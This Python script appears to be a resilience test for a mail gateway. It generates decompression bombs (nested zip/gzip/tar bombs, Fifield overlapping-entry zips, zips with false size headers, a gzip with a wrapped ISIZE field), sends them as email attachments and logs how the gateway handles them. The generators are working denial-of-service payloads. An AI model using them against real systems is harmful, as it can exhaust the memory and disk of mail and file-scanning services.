"""Archive bombs in other containers: what the gateway answered, how long it
took, and the verdict the downstream saw (or nothing: quarantined)."""
import base64
import gzip
import io
import struct
import sys
import tarfile
import time
import zipfile
import zlib
from lib import *
from dos import rss

MiB = 1 << 20


def zipped(members, method=zipfile.ZIP_DEFLATED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method, compresslevel=9) as z:
        for name, data in members:
            z.writestr(name, data)
    return buf.getvalue()


def gz_of_zeros(n, name=b"zeros.bin"):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = bytes(MiB)
    out = [c.compress(chunk) for _ in range(n // MiB)]
    out.append(c.flush())
    hdr = b"\x1f\x8b\x08\x08" + b"\0\0\0\0" + b"\x02\xff" + name + b"\0"
    return hdr + b"".join(out) + struct.pack("<II", 0, n & 0xFFFFFFFF)


def overlap_zip(n_entries, n_bytes):
    """Fifield-style: every central entry points at one local file (no nesting)."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = b"".join(c.compress(bytes(MiB)) for _ in range(n_bytes // MiB)) + c.flush()
    crc = 0
    for _ in range(n_bytes // MiB):
        crc = zlib.crc32(bytes(MiB), crc)
    name = b"a.txt"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), n_bytes, len(name), 0) + name + data
    central = b""
    for i in range(n_entries):
        nm = b"f%05d.txt" % i
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(data), n_bytes,
                               len(nm), 0, 0, 0, 0, 0, 0) + nm
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n_entries, n_entries, len(central), len(local), 0)
    return local + central + eocd


def lying_zip(declared, actual):
    """One entry that declares `declared` bytes but inflates to `actual`."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = b"".join(c.compress(bytes(MiB)) for _ in range(actual // MiB)) + c.flush()
    name = b"small.txt"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, 0, len(data), declared, len(name), 0) + name + data
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, 0, len(data), declared,
                          len(name), 0, 0, 0, 0, 0, 0) + name
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + eocd


def tar_gz_of_zeros(n):
    class Zeros(io.RawIOBase):
        def __init__(self, n):
            self.left = n
        def readable(self):
            return True
        def readinto(self, b):
            k = min(len(b), self.left)
            b[:k] = bytes(k)
            self.left -= k
            return k
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", compresslevel=9) as t:
        ti = tarfile.TarInfo("report.pdf")
        ti.size = n
        t.addfile(ti, io.BufferedReader(Zeros(n)))
    return buf.getvalue()


def deep_zip(levels, width):
    z = zipped([("leaf.txt", bytes(2 * MiB))])
    for d in range(levels - 1):
        z = zipped([(f"l{d}-{i}.zip", z) for i in range(width)])
    return z


def variants():
    return [
        ("gzip in zip (16 x .gz of 256 MiB)", "bundle.zip", lambda: zipped([(f"part{i}.bin.gz", gz) for gz in [gz_of_zeros(256 * MiB)] for i in range(16)], zipfile.ZIP_STORED)),
        ("zip in gzip (3-level zip bomb, gzipped)", "bundle.zip.gz", lambda: gzip.compress(deep_zip(3, 16), 9)),
        ("tar.gz, one 1 GiB member", "report.tar.gz", lambda: tar_gz_of_zeros(1024 * MiB)),
        (".tgz in zip in zip", "outer.zip", lambda: zipped([("mid.zip", zipped([("x.tgz", tar_gz_of_zeros(256 * MiB))]))])),
        ("overlapping entries (Fifield), 2000 x 100 MiB", "overlap.zip", lambda: overlap_zip(2000, 100 * MiB)),
        ("overlapping entries, 200 x 20 MiB", "overlap2.zip", lambda: overlap_zip(200, 20 * MiB)),
        ("declares 1 KiB, inflates to 1 GiB", "liar.zip", lambda: lying_zip(1024, 1024 * MiB)),
        ("7 levels of zip (past max_depth), 2 wide", "deep.zip", lambda: deep_zip(7, 2)),
        ("single gz 4 GiB+1 MiB (ISIZE wraps)", "big.gz", lambda: gz_of_zeros(4097 * MiB)),
    ]


def message(name, data):
    b64 = base64.encodebytes(data).replace(b"\n", b"\r\n")
    text = (b"--b\r\nContent-Type: text/plain\r\n\r\nplease see attached\r\n--b\r\n"
            b"Content-Type: application/octet-stream; name=\"" + name.encode() + b"\"\r\n"
            b"Content-Disposition: attachment; filename=\"" + name.encode() + b"\"\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" + b64 + b"--b--\r\n")
    return body(b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n", text)


if __name__ == "__main__":
    only = sys.argv[1] if len(sys.argv) > 1 else ""
    for label, name, make in variants():
        if only and only not in label:
            continue
        data = make()
        clear()
        t = time.time()
        log = transaction(QUEUE, b"<sender@example.org>", [b"<alice@contoso.com>"], message(name, data))
        took = round(time.time() - t, 2)
        eod = next((r for c, r in log if c == "EOD"), log[-1][1])
        q = wait_queued(1, 6) if eod.startswith("250") else []
        verdict = [l for m in q for l in header_of(m["content"]).split(b"\n\n")[0].decode(errors="replace").split("\n")
                   if "Verdict" in l or l.startswith("\t")][:3]
        print(f"{label}: {len(data)} B attached; gw {eod.splitlines()[-1][:50]!r} in {took}s; downstream={len(q)} {verdict}; RSS {rss(QUEUE)}")
